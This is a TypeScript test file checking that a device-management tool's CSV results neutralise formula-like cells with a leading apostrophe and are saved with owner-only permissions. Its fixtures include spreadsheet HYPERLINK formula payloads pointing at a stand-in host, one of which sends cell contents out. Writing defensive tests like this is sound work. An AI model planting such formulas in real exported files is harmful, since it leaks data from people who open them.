/**
 * Output that is safe to open (issue 6): in a results CSV, a cell starting with `=`, `+`, `-`, `@`,
 * tab or CR — from the manifest or from a server message — gets a leading apostrophe, so Excel shows
 * it as text instead of running it as a formula. What is sent to Graph is the value as written.
 * The results file is readable by its owner only.
 */
import { readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import type { Emulator } from '../../src/emulator/index.js';
import { tempDir, tempFile } from '../helpers/results.js';
import { caseEmulator, ID, runJobOn } from './helpers.js';

const FORMULA_START = /^[=+\-@\t\r]/;

/** Every cell of a CSV file as Excel would read it (header included). */
function cells(path: string): string[] {
  return (parse(readFileSync(path, 'utf8'), { relax_column_count: true }) as string[][]).flat();
}

const HOSTILE_KEY = '=HYPERLINK("http://evil.example/?"&A1,"open")';
const manifest = () =>
  tempFile(
    'formulas.json',
    JSON.stringify([
      {
        id: ID.pc0,
        displayName: '=1+2',
        extensionAttribute1: '+SUM(A1:A9)',
        extensionAttribute2: '-2+3',
        extensionAttribute3: '@cmd',
        extensionAttribute4: '\t=tab',
        extensionAttribute5: '\r=cr',
      },
      { id: HOSTILE_KEY, extensionAttribute1: 'x' },
    ]),
  );

let emu: Emulator | undefined;
afterEach(async () => {
  await emu?.stop();
  emu = undefined;
});

describe('results CSV is safe in Excel', () => {
  it('formula-like manifest cells are neutralised in the results, sent to Graph as written; the file is 0600', async () => {
    emu = await caseEmulator();
    const r = await runJobOn(emu, { manifest: manifest() });
    expect(r.rows.map((x) => [x.row, x.outcome])).toEqual([
      ['1', 'updated'],
      ['2', 'invalid'],
    ]);
    for (const cell of cells(r.resultsPath)) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
    expect(r.rows[0]).toMatchObject({
      displayName: "'=1+2",
      extensionAttribute1: "'+SUM(A1:A9)",
      extensionAttribute2: "'-2+3",
      extensionAttribute3: "'@cmd",
      extensionAttribute4: "'\t=tab",
      extensionAttribute5: "'\r=cr",
    });
    expect(r.rows[1]!.key).toBe(`'${HOSTILE_KEY}`);
    expect(r.rows[1]!.id).toBe(`'${HOSTILE_KEY}`);

    const device = emu.getDevice(ID.pc0)!;
    expect(device.displayName).toBe('=1+2');
    expect(device.extensionAttributes).toMatchObject({
      extensionAttribute1: '+SUM(A1:A9)',
      extensionAttribute2: '-2+3',
      extensionAttribute3: '@cmd',
    });
    expect(device.extensionAttributes.extensionAttribute4).toBe('=tab'); // whitespace around values is trimmed before sending

    expect(statSync(r.resultsPath).mode & 0o777).toBe(0o600);
  });

  it('formula-like server error codes and messages are neutralised too', async () => {
    emu = await caseEmulator({ forceError: { status: 400, code: '+Err', message: '=HYPERLINK("http://evil.example","click me")' } });
    const r = await runJobOn(emu, { manifest: tempFile('m.csv', `id,extensionAttribute1\n${ID.pc0},x\n`) });
    // (the device read before writing got the error: the message says so after Graph's text)
    expect(r.rows[0]).toMatchObject({
      outcome: 'failed',
      httpStatus: '400',
      errorCode: "'+Err",
      errorMessage: `'=HYPERLINK("http://evil.example","click me") (reading the device before writing)`,
    });
    for (const cell of cells(r.resultsPath)) expect(cell).not.toMatch(FORMULA_START);
  });

  it('a JSON Lines results file keeps values as written (it is for programs, not Excel) and is 0600 too', async () => {
    emu = await caseEmulator();
    const results = join(tempDir(), 'results.jsonl');
    await runJobOn(emu, { manifest: manifest(), results });
    const lines = readFileSync(results, 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines.find((l) => l.row === 1)).toMatchObject({ displayName: '=1+2', extensionAttribute5: '\r=cr' });
    expect(statSync(results).mode & 0o777).toBe(0o600);
  });
});
